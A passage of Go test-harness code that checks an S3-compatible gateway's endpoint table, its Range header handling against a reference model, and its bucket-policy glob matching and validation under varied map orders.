			Body: body("<SelectObjectContentRequest><Expression>select * from s3object</Expression><ExpressionType>SQL</ExpressionType><InputSerialization><CSV></CSV></InputSerialization><OutputSerialization><CSV></CSV></OutputSerialization></SelectObjectContentRequest>")},
		{ID: "CompleteMultipartUpload", Method: "POST", Level: "object", Query: upQ, Key: mp, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true,
			Body: func(w *World) []byte {
				return []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>" + w.PartETag + "</ETag></Part></CompleteMultipartUpload>")
			}},
		{ID: "CreateMultipartUpload", Method: "POST", Level: "object", Query: q("uploads"), Key: func(*World) string { return "newmp" }, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true},
		// admin
		{ID: "AdminCreateUser", Method: "PATCH", Level: "admin", Mutating: true, Key: func(*World) string { return "create-user" },
			Body: func(*World) []byte {
				return xmlUser(gw.Creds{Access: "newuser", Secret: "newusersecret0000"}, "user", 0, 0)
			}},
		{ID: "AdminDeleteUser", Method: "PATCH", Level: "admin", Mutating: true, Key: func(*World) string { return "delete-user" }, Query: q("access=usr3")},
		{ID: "AdminUpdateUser", Method: "PATCH", Level: "admin", Mutating: true, Key: func(*World) string { return "update-user" }, Query: q("access=usr3"),
			Body: body("<MutableProps><Secret>changedsecret000000</Secret></MutableProps>")},
		{ID: "AdminListUsers", Method: "PATCH", Level: "admin", Key: func(*World) string { return "list-users" }},
		{ID: "AdminChangeBucketOwner", Method: "PATCH", Level: "admin", Mutating: true, Key: func(*World) string { return "change-bucket-owner" },
			Query: func(w *World) string { return gw.Q("bucket", w.Bucket, "owner", "usr3") }},
		{ID: "AdminListBuckets", Method: "PATCH", Level: "admin", Key: func(*World) string { return "list-buckets" }},
	}
	return eps
}

// Build renders the (unsigned) valid request of ep against w. bucket ""
// selects the default bucket for the endpoint.
func (ep *EP) Build(w *World, bucket string) *gw.Req {
	if bucket == "" {
		bucket = w.Bucket
		if ep.OwnBkt == "new" {
			bucket = "bk-new"
		}
		if ep.Needs == "lockbucket" && w.F.G.Opts.Versioning {
			bucket = w.LockBkt
		}
	}
	key := w.Key
	if ep.Needs == "lockbucket" && bucket == w.LockBkt {
		key = "locked"
	}
	if ep.Key != nil {
		key = ep.Key(w)
	}
	var path string
	switch ep.Level {
	case "service":
		path = "/"
	case "bucket":
		path = "/" + bucket
	case "object":
		path = gw.ObjPath(bucket, key)
	case "admin":
		path = "/" + key
	}
	r := &gw.Req{Method: ep.Method, Path: path}
	if ep.Query != nil {
		r.Query = ep.Query(w)
	}
	if ep.Headers != nil {
		r.Headers = ep.Headers(w)
	}
	if ep.Body != nil {
		r.Body = ep.Body(w)
	}
	return r
}

// Applicable reports whether ep makes sense on this world's configuration.
func (ep *EP) Applicable(w *World) bool {
	switch ep.Needs {
	case "versioning", "lockbucket":
		return w.F.G.Opts.Versioning
	}
	return true
}

// RouteGuard compares the table with the routes registered in the app of the
// current tree: every (method, route pattern) must be covered by at least one
// table entry, otherwise the table is stale (tooling error, not a violation).
func RouteGuard(w *World) {
	have := map[string]bool{}
	for _, ep := range Endpoints() {
		var pat string
		switch ep.Level {
		case "service":
			pat = "/"
		case "bucket":
			pat = "/:bucket"
		case "object":
			pat = "/:bucket/:key/*"
		case "admin":
			pat = "/" + ep.Key(w)
		}
		have[ep.Method+" "+pat] = true
	}
	var missing []string
	for _, r := range w.F.G.Routes() {
		m, p, _ := strings.Cut(r, " ")
		if p == "/update-user" || p == "update-user" {
			p = "/update-user"
		}
		if m == "HEAD" && !have["HEAD "+p] && have["GET "+p] {
			continue // fiber registers HEAD for GET routes
		}
		switch m {
		case "GET", "PUT", "POST", "DELETE", "HEAD", "PATCH":
		default:
			continue // app.Use middlewares register under every method
		}
		if p == "/" && m != "GET" {
			continue
		}
		if !have[m+" "+p] {
			missing = append(missing, r)
		}
	}
	if len(missing) > 0 {
		sort.Strings(missing)
		ck.Fatal("endpoint table is stale: routes without a table entry: %v", missing)
	}
}

var _ = time.Now
