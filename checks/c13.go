package checks

import (
	"bytes"
	"context"
	"fmt"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"io"
	"math/big"
	"regexp"
	"strconv"
	"strings"

	"github.com/versity/versitygw/backend"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C13"] = C13 }

// rangeCase is one Range header string with the class it belongs to.
type rangeCase struct {
	Class string
	Hdr   string
}

// expectation (set-valued): any of the listed outcomes is acceptable.
type rangeOutcome struct {
	Status     int
	Start, End int64 // for 206: inclusive interval
}

var (
	reClosed = regexp.MustCompile(`^bytes=([0-9]+)-([0-9]+)$`)
	reOpen   = regexp.MustCompile(`^bytes=([0-9]+)-$`)
	reSuffix = regexp.MustCompile(`^bytes=-([0-9]+)$`)
)

func bigOf(s string) *big.Int { n, _ := new(big.Int).SetString(s, 10); return n }

// refRange is the reference: the set of acceptable outcomes for (size, header).
// Written from the property statement; where the statement leaves a choice
// (suffix form supported or not, numbers that do not fit 63 bits treated as
// beyond-the-end or as malformed, lax numerals such as "+1" or blanks) every
// consistent choice is admitted.
func refRange(size int64, hdr string) []rangeOutcome {
	full := rangeOutcome{Status: 200}
	max63 := new(big.Int).SetInt64(1<<63 - 1)
	sz := big.NewInt(size)
	if hdr == "" {
		return []rangeOutcome{full}
	}
	if m := reClosed.FindStringSubmatch(hdr); m != nil {
		a, b := bigOf(m[1]), bigOf(m[2])
		if a.Cmp(max63) > 0 {
			return []rangeOutcome{{Status: 416}, full}
		}
		if a.Cmp(b) > 0 {
			// reversed: malformed ⇒ whole object; if first-pos is beyond the end 416 is also defensible
			if a.Cmp(sz) >= 0 {
				return []rangeOutcome{full, {Status: 416}}
			}
			return []rangeOutcome{full}
		}
		if a.Cmp(sz) >= 0 {
			return []rangeOutcome{{Status: 416}}
		}
		e := size - 1
		if b.Cmp(big.NewInt(e)) < 0 {
			e = b.Int64()
		}
		out := []rangeOutcome{{Status: 206, Start: a.Int64(), End: e}}
		if b.Cmp(max63) > 0 {
			out = append(out, full)
		}
		return out
	}
	if m := reOpen.FindStringSubmatch(hdr); m != nil {
		a := bigOf(m[1])
		if a.Cmp(max63) > 0 {
			return []rangeOutcome{{Status: 416}, full}
		}
		if a.Cmp(sz) >= 0 {
			return []rangeOutcome{{Status: 416}}
		}
		return []rangeOutcome{{Status: 206, Start: a.Int64(), End: size - 1}}
	}
	if m := reSuffix.FindStringSubmatch(hdr); m != nil {
		n := bigOf(m[1])
		out := []rangeOutcome{full} // unsupported form ⇒ whole object
		if n.Sign() == 0 || size == 0 {
			return append(out, rangeOutcome{Status: 416})
		}
		s := int64(0)
		if n.Cmp(sz) < 0 {
			s = size - n.Int64()
		}
		return append(out, rangeOutcome{Status: 206, Start: s, End: size - 1})
	}
	// a sign is not part of a byte position (positions are digits only): malformed, the whole object
	if strings.Contains(hdr, "+") {
		return []rangeOutcome{full}
	}
	// lax numerals: blanks around numbers — either malformed (200) or
	// the interpretation after stripping them
	stripped := strings.NewReplacer(" ", "", "\t", "").Replace(hdr)
	if stripped != hdr && (reClosed.MatchString(stripped) || reOpen.MatchString(stripped) || reSuffix.MatchString(stripped)) {
		out := refRange(size, stripped)
		for _, o := range out {
			if o.Status == 200 {
				return out
			}
		}
		return append(out, full)
	}
	// malformed, but a parseable first position lies beyond the end: 416 is defensible too
	if m := regexp.MustCompile(`^bytes=([0-9]+)-`).FindStringSubmatch(hdr); m != nil {
		if a := bigOf(m[1]); a.Cmp(sz) >= 0 {
			return []rangeOutcome{full, {Status: 416}}
		}
	}
	return []rangeOutcome{full}
}

func rangeCases(size int64) []rangeCase {
	var cs []rangeCase
	add := func(class, h string) { cs = append(cs, rangeCase{class, h}) }
	nums := []string{"0", "1", "2", "3", fmt.Sprint(size - 1), fmt.Sprint(size), fmt.Sprint(size + 1), fmt.Sprint(2*size + 3),
		"9223372036854775807", "9223372036854775808", "18446744073709551616", "1000000000000000000000000000000", "00", "007",
		// 1*DIGIT admits leading zeros: positions padded beyond the 19 digits of the largest int64 keep their value
		"00000000000000000002", "000000000000000000000", fmt.Sprintf("%020d", size-1), fmt.Sprintf("%023d", size)}
	seen := map[string]bool{}
	var ns []string
	for _, n := range nums {
		if !strings.HasPrefix(n, "-") && !seen[n] {
			seen[n] = true
			ns = append(ns, n)
		}
	}
	add("absent", "")
	for _, a := range ns {
		add("open", "bytes="+a+"-")
		add("suffix", "bytes=-"+a)
		for _, b := range ns {
			add("closed", "bytes="+a+"-"+b)
		}
	}
	for _, h := range []string{"bytes=0-0,1-1", "bytes=0-1,3-4", "bytes=0-,1-", "bytes=-1,-2", "bytes=0-1, 2-3"} {
		add("multi", h)
	}
	for _, h := range []string{"items=0-1", "byte=0-1", "bits=0-1", "Bytes=0-1", "BYTES=0-1", "bytes:0-1", "octets=0-1"} {
		add("unit", h)
	}
	for _, h := range []string{" bytes=0-1", "bytes =0-1", "bytes= 0-1", "bytes=0 -1", "bytes=0- 1", "bytes=0-1 ", "bytes=\t0-1", "bytes=+0-1", "bytes=0-+1", "bytes=+1-", "bytes=-+1"} {
		add("lax", h)
	}
	for _, h := range []string{"bytes", "bytes=", "bytes=-", "=", "-", "bytes==0-1", "bytes=0-1-2", "bytes=0--1", "bytes=--1", "bytes=-1-", "bytes=-1-2",
		"bytes=a-b", "bytes=0-b", "bytes=a-1", "bytes=0x0-0x1", "bytes=1e0-2", "bytes=0.0-1", "bytes=٠-١", "bytes=０-１", "garbage", "0-1", "bytes=0-1=2", "bytes=0-1;q=1", "bytes=*", "bytes=0-*", "bytes=-0x1"} {
		add("garbage", h)
	}
	return cs
}

func outcomeStr(o rangeOutcome) string {
	if o.Status == 206 {
		return fmt.Sprintf("206[%d-%d]", o.Start, o.End)
	}
	return fmt.Sprint(o.Status)
}

// checkRangeResp compares a response with the reference set; returns anomaly ("" if fine).
func checkRangeResp(obj []byte, resp *gw.Resp, want []rangeOutcome, isHead bool) string {
	if resp.Err != nil {
		return "no-wellformed-response"
	}
	size := int64(len(obj))
	cr := resp.Header.Get("Content-Range")
	cl := resp.Header.Get("Content-Length")
	var got rangeOutcome
	switch resp.Status {
	case 200:
		got = rangeOutcome{Status: 200}
		if cr != "" {
			return "200-with-content-range"
		}
		if !isHead && !bytes.Equal(resp.Body, obj) {
			return "200-body-not-whole-object"
		}
		if cl != "" && cl != fmt.Sprint(size) {
			return "200-content-length-mismatch"
		}
	case 206:
		var s, e, t int64
		if n, _ := fmt.Sscanf(cr, "bytes %d-%d/%d", &s, &e, &t); n != 3 {
			if !isHead && bytes.Equal(resp.Body, obj) {
				return "206-without-content-range-whole-body"
			}
			return "206-without-content-range"
		}
		if t != size || s < 0 || e < s || e >= size {
			return "206-content-range-outside-object"
		}
		if cl != "" && cl != fmt.Sprint(e-s+1) {
			return "206-content-length-disagrees-with-content-range"
		}
		if !isHead && !bytes.Equal(resp.Body, obj[s:e+1]) {
			return "206-body-disagrees-with-content-range"
		}
		got = rangeOutcome{Status: 206, Start: s, End: e}
	case 416:
		got = rangeOutcome{Status: 416}
		if !isHead && resp.ErrCode() != "InvalidRange" {
			return "416-without-InvalidRange-code"
		}
	default:
		return fmt.Sprintf("unexpected-status-%d", resp.Status)
	}
	for _, w := range want {
		if w == got {
			return ""
		}
	}
	if got.Status == 206 {
		return "206-wrong-interval"
	}
	return fmt.Sprintf("%d-not-admitted", got.Status)
}

// C13: exhaustive product object size × Range string, end-to-end GET and HEAD,
// plus direct ParseGetObjectRange on the same strings with larger sizes.
func C13(r *ck.Run) {
	r.Rule("every Range string of the grammar menu (closed/open/suffix over boundary numbers incl. positions zero-padded to 20-23 digits, multi-range, other units, lax numerals, garbage) × every object size (and a directory object); plus every ordered pair of ranged reads at the backend seam opened first and drained afterwards in both orders; a case is distinct by (size, key, header, method); non-trivial = header present")
	r.Assume("suffix ranges may be supported (206 last n bytes) or unsupported (200 whole object); numbers that do not fit 63 bits may count as beyond-the-end (416) or malformed (200); blanks in numerals may be rejected (200) or ignored; a '+' in a numeral makes the range malformed (200)")
	sizes := []int64{0, 1, 2, 5, 10}
	if r.Thorough() {
		sizes = []int64{0, 1, 2, 3, 5, 10, 4096, 4097, 70000}
	}
	cfgs := []gw.Opts{{}, {Versioning: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{Sidecar: true}, gw.Opts{NoTmpFile: true})
	}
	for ci, cfg := range cfgs {
		f := NewFx("c13", cfg)
		Must(f.CreateBucket(gw.Root, "rbk"), "create bucket")
		for si, size := range append([]int64{0}, sizes...) {
			obj := Pattern(int(size), 3)
			key := fmt.Sprintf("o%d", size)
			if si == 0 {
				// a directory object: an object of length 0 that is not a file
				key = "dirobj/"
			}
			Must(f.Put(gw.Root, "rbk", key, obj), "put")
			for _, c := range rangeCases(size) {
				want := refRange(size, c.Hdr)
				for _, method := range []string{"GET", "HEAD"} {
					var hdrs [][2]string
					if c.Hdr != "" {
						hdrs = H("Range", c.Hdr)
					}
					req := NewReq(method, gw.ObjPath("rbk", key), "", hdrs, nil)
					// Range stays out of SignedHeaders (as most SDKs do) so that blanks in it cannot disturb the signature
					gw.Sign(req, gw.Root, gw.SignOpts{NoSignHeaders: []string{"range"}})
					resp := f.G.Do(req)
					if method == "HEAD" {
						// HEAD carries no body: the statement is about reads; only self-consistency is demanded
						want = append(append([]rangeOutcome{}, want...), rangeOutcome{Status: 200})
					}
					r.Add("evaluations", 1)
					r.Add("transitions", 1)
					if c.Hdr != "" {
						r.Distinct(fmt.Sprintf("%d|%s|%s|%s|%d", size, key, c.Hdr, method, ci))
					}
					r.Outcome(fmt.Sprintf("%s:%d", c.Class, resp.Status))
					if a := checkRangeResp(obj, resp, want, method == "HEAD"); a != "" {
						var ws []string
						for _, w := range want {
							ws = append(ws, outcomeStr(w))
						}
						kind := method
						if si == 0 {
							kind += " directory-object"
						}
						r.Violation(ck.JoinSig(kind, c.Class, a), map[string]any{
							"size": size, "range": c.Hdr, "method": method, "config": cfg, "status": resp.Status,
							"content_range": resp.Header.Get("Content-Range"), "content_length": resp.Header.Get("Content-Length"),
							"body_len": len(resp.Body), "admitted": ws,
							"replay": fmt.Sprintf("PUT /rbk/%s (%d pattern bytes); %s /rbk/%s with Range: %q", key, size, method, key, c.Hdr)})
					}
				}
			}
			if size == 5 && ci == 0 {
				r.Sample(map[string]any{"size": size, "range": "bytes=1-3", "admitted": "206[1-3]"})
			}
		}
		if ci == 0 {
			c13Overlapping(r, f)
		}
		f.Close()
	}
	// direct calls of the parser with the same grammar and larger sizes
	psizes := []int64{0, 1, 2, 5, 10, 4096, 1 << 31, 1 << 40, 1<<63 - 1}
	for _, size := range psizes {
		for _, c := range rangeCases(size) {
			start, length, valid, err := backend.ParseGetObjectRange(size, c.Hdr)
			r.Add("evaluations", 1)
			r.Add("parser_calls", 1)
			r.Distinct(fmt.Sprintf("p|%d|%s", size, c.Hdr))
			want := refRange(size, c.Hdr)
			var got rangeOutcome
			switch {
			case err != nil:
				got = rangeOutcome{Status: 416}
			case valid:
				got = rangeOutcome{Status: 206, Start: start, End: start + length - 1}
				if start < 0 || length <= 0 || start+length > size {
					r.Violation(ck.JoinSig("parser", c.Class, "interval-outside-object"), map[string]any{"size": size, "range": c.Hdr, "start": start, "length": length})
					continue
				}
			default:
				got = rangeOutcome{Status: 200}
				if start != 0 || length != size {
					r.Violation(ck.JoinSig("parser", c.Class, "invalid-range-not-whole-object"), map[string]any{"size": size, "range": c.Hdr, "start": start, "length": length})
					continue
				}
			}
			ok := false
			for _, w := range want {
				if w == got {
					ok = true
				}
			}
			if !ok {
				r.Violation(ck.JoinSig("parser", c.Class, "outcome-not-admitted"), map[string]any{"size": size, "range": c.Hdr, "got": outcomeStr(got), "start": start, "length": length, "valid": valid, "err": fmt.Sprint(err)})
			}
		}
	}
	_ = strconv.Itoa
}

// c13Overlapping: a response body is read by the server after the backend call has returned, while other requests are
// being served. Every ordered pair of ranged reads (two objects x ranges) is opened first and drained afterwards, in
// both orders: each body must be its own range.
func c13Overlapping(r *ck.Run, f *Fx) {
	objs := map[string][]byte{"ov/a": Pattern(300, 1), "ov/b": Pattern(70000, 7)}
	for k, v := range objs {
		Must(f.Put(gw.Root, "rbk", k, v), "put "+k)
	}
	type rd struct {
		Key, Range string
		From, To   int
	}
	reads := []rd{{"ov/a", "bytes=0-9", 0, 9}, {"ov/a", "bytes=100-131", 100, 131}, {"ov/a", "", 0, 299}, {"ov/b", "bytes=5-20", 5, 20}, {"ov/b", "bytes=100-65700", 100, 65700}, {"ov/b", "bytes=69990-", 69990, 69999}}
	for i, a := range reads {
		for j, b := range reads {
			for _, drainFirst := range []int{0, 1} {
				open := func(x rd) (io.ReadCloser, error) {
					out, err := f.G.BE.GetObject(context.Background(), &s3.GetObjectInput{Bucket: sp("rbk"), Key: sp(x.Key), Range: sp(x.Range)})
					if err != nil {
						return nil, err
					}
					return out.Body, nil
				}
				ba, err1 := open(a)
				bb, err2 := open(b)
				r.Add("evaluations", 1)
				r.Distinct(fmt.Sprintf("overlap|%d|%d|%d", i, j, drainFirst))
				if err1 != nil || err2 != nil {
					r.Violation(ck.JoinSig("overlapping-reads", "valid-ranged-read-failed"), map[string]any{"first": a, "second": b, "errors": fmt.Sprint(err1, err2)})
					continue
				}
				bodies := [2][]byte{}
				order := []int{0, 1}
				if drainFirst == 1 {
					order = []int{1, 0}
				}
				for _, o := range order {
					if o == 0 {
						bodies[0], _ = io.ReadAll(ba)
					} else {
						bodies[1], _ = io.ReadAll(bb)
					}
				}
				ba.Close()
				bb.Close()
				okA := bytes.Equal(bodies[0], objs[a.Key][a.From:a.To+1])
				okB := bytes.Equal(bodies[1], objs[b.Key][b.From:b.To+1])
				r.Outcome(fmt.Sprintf("overlap:%v", okA && okB))
				if !okA || !okB {
					r.Violation(ck.JoinSig("overlapping-reads", "body-is-not-the-requested-range"), map[string]any{"first": a, "second": b, "drained_first": order[0], "first_ok": okA, "second_ok": okB})
				}
			}
		}
	}
}
