package checks

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/versity/versitygw/auth"

	"verif/ck"
	"verif/gw"
	"verif/sched"
	"verif/shim/vmap"
)

func init() { Registry["C14"] = C14 }

func allStrings(alpha string, maxLen int) []string {
	out := []string{""}
	prev := []string{""}
	for l := 1; l <= maxLen; l++ {
		var cur []string
		for _, p := range prev {
			for _, c := range alpha {
				cur = append(cur, p+string(c))
			}
		}
		out = append(out, cur...)
		prev = cur
	}
	return out
}

// fixed accounts for principal validation
type c14IAM struct{ users map[string]bool }

func (i c14IAM) CreateAccount(auth.Account) error { return nil }
func (i c14IAM) GetUserAccount(a string) (auth.Account, error) {
	if i.users[a] {
		return auth.Account{Access: a}, nil
	}
	return auth.Account{}, auth.ErrNoSuchUser
}
func (i c14IAM) UpdateUserAccount(string, auth.MutableProps) error { return nil }
func (i c14IAM) DeleteUserAccount(string) error                    { return nil }
func (i c14IAM) ListUserAccounts() ([]auth.Account, error)         { return nil, nil }
func (i c14IAM) Shutdown() error                                   { return nil }

// requireMapOrderInstrumented: the overlay must have turned map ranges of package auth into vmap.Keys calls.
func requireMapOrderInstrumented() {
	doc := []byte(`{"Statement":[{"Effect":"Allow","Principal":["u1","u2"],"Action":["s3:GetObject","s3:PutObject"],"Resource":["arn:aws:s3:::b/*","arn:aws:s3:::b/x"]}]}`)
	runs, _ := sched.ExploreChoices(0, func(c *sched.Chooser) {
		vmap.Current = c
		_ = auth.ValidatePolicyDocument(doc, "b", c14IAM{map[string]bool{"u1": true, "u2": true}})
		vmap.Current = nil
	})
	if runs < 2 {
		ck.Fatal("this check needs the instrumented build (map iteration order of package auth is not explorer-owned); run it through ./run")
	}
}

// c14Validate calls the real validator; a panic is returned as text (the gateway has no recover middleware:
// a panicking validator ends the process that serves PutBucketPolicy).
func c14Validate(doc []byte, bucket string, iam auth.IAMService) (err error, panicked string) {
	defer func() {
		if p := recover(); p != nil {
			panicked = ck.Short(fmt.Sprint(p), 120)
		}
	}()
	return auth.ValidatePolicyDocument(doc, bucket, iam), ""
}

// ---- statement menus -------------------------------------------------------

type c14Stmt struct {
	Ref  refStmt
	JSON string
}

func jsonList(ss []string, single bool) string {
	if single && len(ss) == 1 {
		b, _ := json.Marshal(ss[0])
		return string(b)
	}
	b, _ := json.Marshal(ss)
	return string(b)
}

func c14Menu(b string, thorough bool) []c14Stmt {
	effects := []string{"Allow", "Deny"}
	type pv struct {
		ids  []string
		json string
	}
	principals := []pv{
		{[]string{"u1"}, `["u1"]`}, {[]string{"*"}, `"*"`}, {[]string{"u1", "u2"}, `["u1","u2"]`}, {[]string{"u2"}, `"u2"`}, {[]string{"u1"}, `{"AWS":"u1"}`},
	}
	actions := [][]string{{"s3:GetObject"}, {"s3:*"}, {"s3:Get*"}, {"s3:GetObject", "s3:PutObject"}, {"s3:ListBucket"}, {"s3:*", "s3:GetObject"}, {"s3:GetObject*"}, {"s3:PutObject*", "s3:ListBucket"}}
	resources := [][]string{{b}, {b + "/*"}, {b, b + "/*"}, {b + "/dir/*"}, {b + "/obj?"}, {b + "/k1"}, {b + "/d&r/*"}}
	if !thorough {
		principals = principals[:4]
	}
	var out []c14Stmt
	for _, e := range effects {
		for _, p := range principals {
			for ai, a := range actions {
				for ri, r := range resources {
					var arns []string
					for _, x := range r {
						arns = append(arns, "arn:aws:s3:::"+x)
					}
					js := fmt.Sprintf(`{"Effect":%q,"Principal":%s,"Action":%s,"Resource":%s}`, e, p.json, jsonList(a, ai%2 == 0), jsonList(arns, ri%2 == 1))
					out = append(out, c14Stmt{Ref: refStmt{e, p.ids, a, r}, JSON: js})
					// the same statement as other JSON encoders spell it: '/' as \/, '&' and a digit as \uXXXX
					// (both in the single-string and in the array form of Resource)
					for _, single := range []bool{true, false} {
						if single && len(arns) != 1 {
							continue
						}
						esc := strings.NewReplacer("/", `\/`, "&", `\u0026`, "1", `\u0031`).Replace(jsonList(arns, single))
						js2 := fmt.Sprintf(`{"Effect":%q,"Principal":%s,"Action":%s,"Resource":%s}`, e, p.json, jsonList(a, ai%2 == 0), esc)
						if js2 != js && (ai < 2 || thorough) {
							out = append(out, c14Stmt{Ref: refStmt{e, p.ids, a, r}, JSON: js2})
						}
					}
				}
			}
		}
	}
	return out
}

// refStmtValid: validity of one statement for bucket b per the statement of C14.
func refStmtValid(st refStmt, b string) bool {
	objActions := map[string]bool{"s3:GetObject": true, "s3:PutObject": true, "s3:DeleteObject": true, "s3:PutObjectTagging": true}
	bktActions := map[string]bool{"s3:ListBucket": true, "s3:GetBucketAcl": true, "s3:PutBucketPolicy": true, "s3:DeleteBucket": true, "s3:ListBucketVersions": true}
	hasObj, hasBkt := false, false
	for _, r := range st.Resources {
		if r != b && !strings.HasPrefix(r, b+"/") {
			return false // resource outside the bucket
		}
		if strings.Contains(r, "/") {
			hasObj = true
		} else {
			hasBkt = true
		}
	}
	for _, a := range st.Actions {
		switch {
		case a == "s3:*":
		case strings.HasSuffix(a, "*"):
			// wildcard: object kind if it matches some object action
			pre := strings.TrimSuffix(a, "*")
			isObj, isBkt := false, false
			for x := range objActions {
				if strings.HasPrefix(x, pre) {
					isObj = true
				}
			}
			for x := range bktActions {
				if strings.HasPrefix(x, pre) {
					isBkt = true
				}
			}
			if !isObj && !isBkt {
				return false
			}
			if isObj && !hasObj && !(isBkt && hasBkt) {
				return false
			}
			if !isObj && isBkt && !hasBkt {
				return false
			}
		case objActions[a]:
			if !hasObj {
				return false
			}
		case bktActions[a]:
			if !hasBkt {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func C14(r *ck.Run) {
	requireMapOrderInstrumented()
	r.Rule("(a) every glob pattern over {a,b,/,*,?} up to a length bound × every subject over {a,b,/} and (one shorter) over {a,/,*,?}, plus patterns and subjects with multi-byte characters; (b) every policy of 1-2 statements from a menu (effect × principal shape × action shape incl. '<full action name>*' × resource shape, string-or-array JSON forms, plain and with JSON escape sequences) × caller × action × resource, evaluated under EVERY iteration order of the policy's maps; (c) a menu of valid and invalid documents (among them statements with Condition / Not* elements, which must be refused, empty and null elements inside Action / Principal / Resource arrays, which must be refused without a panic, and one statement per action the endpoint table names, which must be accepted) validated directly under every map order and put through HTTP; distinct = distinct (pattern,subject) / (policy,query) / document")
	r.Assume("map iteration order of package auth is owned by the explorer through the overlay (range <map> → vmap.Keys)")
	iam := c14IAM{map[string]bool{"u1": true, "u2": true, "u3": true}}
	b := "bkt"

	// (a) glob
	pl, sl := 4, 5
	if r.Thorough() {
		pl, sl = 5, 6
	}
	pats := allStrings("ab/*?", pl)
	// subjects may contain the glob characters themselves (they are legal key characters)
	subs := allStrings("ab/", sl)
	subs = append(subs, allStrings("a/*?", sl-1)...)
	// characters whose encoding takes more than one byte: '?' is one character
	pats = append(pats, allStrings("a?*é", 3)...)
	subs = append(subs, allStrings("aé€", 3)...)
	subs = append(subs, "a/é", "é/a", "report-é")
	pats = append(pats, "report-?", "a/?", "?/a")
	r.Sharded(16, func() {
		var rs auth.Resources
		for pi, p := range pats {
			if !r.Mine(pi) {
				continue
			}
			for _, s := range subs {
				got := rs.Match(p, s)
				r.Add("evaluations", 1)
				r.Add("glob_pairs", 1)
				if got != refGlob(p, s) {
					r.Violation(ck.JoinSig("glob", fmt.Sprintf("impl=%v", got)), map[string]any{"pattern": p, "subject": s, "impl": got, "reference": !got})
				}
			}
			r.Distinct("glob|" + p)
		}
		r.Outcome("glob-done")

		// (b) evaluator under every map order
		menu := c14Menu(b, r.Thorough())
		callers := []string{"u1", "u2", "u3"}
		qactions := []string{"s3:GetObject", "s3:PutObject", "s3:ListBucket", "s3:GetBucketAcl"}
		qres := []string{"", "k1", "dir/x", "obj1", "dir/", "dir//x", "dir/x/", "d&r/x"}
		evalPolicy := func(stmts []c14Stmt, tag string) {
			var js []string
			var ref []refStmt
			for _, s := range stmts {
				js = append(js, s.JSON)
				ref = append(ref, s.Ref)
			}
			doc := []byte(`{"Statement":[` + strings.Join(js, ",") + `]}`)
			r.Distinct(tag + string(doc))
			for _, c := range callers {
				for _, a := range qactions {
					for _, o := range qres {
						res := b
						if o != "" {
							res = b + "/" + o
						}
						want := refPolicyAllows(ref, c, a, res)
						verdicts := map[bool]int{}
						sched.ExploreChoices(0, func(ch *sched.Chooser) {
							vmap.Current = ch
							err := auth.VerifyBucketPolicy(doc, c, b, o, auth.Action(a))
							vmap.Current = nil
							verdicts[err == nil]++
							r.Add("evaluations", 1)
							r.Add("policy_evaluations", 1)
						})
						r.Outcome(fmt.Sprintf("eval:%v", want))
						if len(verdicts) > 1 {
							r.Violation(ck.JoinSig("evaluator", "verdict-depends-on-map-order"), map[string]any{"policy": string(doc), "caller": c, "action": a, "resource": res, "verdicts": fmt.Sprint(verdicts)})
						} else if verdicts[want] == 0 {
							r.Violation(ck.JoinSig("evaluator", fmt.Sprintf("reference=%v impl=%v", want, !want), stmtClass(ref, c, a, res)), map[string]any{"policy": string(doc), "caller": c, "action": a, "resource": res})
						}
					}
				}
			}
		}
		idx := 0
		for _, s := range menu {
			idx++
			if r.Mine(idx) {
				evalPolicy([]c14Stmt{s}, "1|")
			}
		}
		// two statements: reduced menu (every 5th statement) × full menu stride
		var red []c14Stmt
		step := 7
		if r.Thorough() {
			step = 3
		}
		for i := 0; i < len(menu); i += step {
			red = append(red, menu[i])
		}
		for _, s1 := range red {
			for _, s2 := range red {
				idx++
				if r.Mine(idx) {
					evalPolicy([]c14Stmt{s1, s2}, "2|")
				}
			}
		}
		if r.Thorough() {
			var red3 []c14Stmt
			for i := 0; i < len(menu); i += 37 {
				red3 = append(red3, menu[i])
			}
			for _, s1 := range red3 {
				for _, s2 := range red3 {
					for _, s3 := range red3 {
						idx++
						if r.Mine(idx) {
							evalPolicy([]c14Stmt{s1, s2, s3}, "3|")
						}
					}
				}
			}
		}

		// (c) validation, directly under every map order
		for di, d := range c14Docs(b) {
			if !r.Mine(di) {
				continue
			}
			verdicts := map[bool]int{}
			sched.ExploreChoices(0, func(ch *sched.Chooser) {
				vmap.Current = ch
				err, panicked := c14Validate([]byte(d.Doc), b, iam)
				vmap.Current = nil
				if panicked != "" {
					r.Violation(ck.JoinSig("validate", "panics", d.Class), map[string]any{"document": d.Doc, "panic": panicked})
					err = fmt.Errorf("panic")
				}
				verdicts[err == nil]++
				r.Add("evaluations", 1)
				r.Add("validations", 1)
			})
			r.Distinct("doc|" + d.Doc)
			r.Outcome(fmt.Sprintf("validate:%v", d.Valid))
			if len(verdicts) > 1 {
				r.Violation(ck.JoinSig("validate", "verdict-depends-on-map-order", d.Class), map[string]any{"document": d.Doc, "verdicts(accepted)": fmt.Sprint(verdicts)})
			} else if verdicts[d.Valid] == 0 {
				r.Violation(ck.JoinSig("validate", fmt.Sprintf("reference-valid=%v", d.Valid), d.Class), map[string]any{"document": d.Doc, "bucket": b})
			}
		}
	})
	// (c2) through HTTP: invalid ⇒ 4xx and the previous policy stays; valid ⇒ stored byte-exact
	if !r.IsWorker() {
		c14HTTP(r)
		r.Sample(map[string]any{"pattern": "a*/?", "subject": "ab/b", "match": refGlob("a*/?", "ab/b")})
	}
}

func stmtClass(ref []refStmt, c, a, res string) string {
	var parts []string
	for _, s := range ref {
		parts = append(parts, fmt.Sprintf("%s:%v:%v", s.Effect, s.Actions, s.Resources))
	}
	return ck.Short(strings.Join(parts, ";"), 120)
}

type c14Doc struct {
	Class string
	Doc   string
	Valid bool
}

func c14Docs(b string) []c14Doc {
	arn := func(s string) string { return "arn:aws:s3:::" + s }
	st := func(effect, principal, action, resource string) string {
		return fmt.Sprintf(`{"Effect":%s,"Principal":%s,"Action":%s,"Resource":%s}`, effect, principal, action, resource)
	}
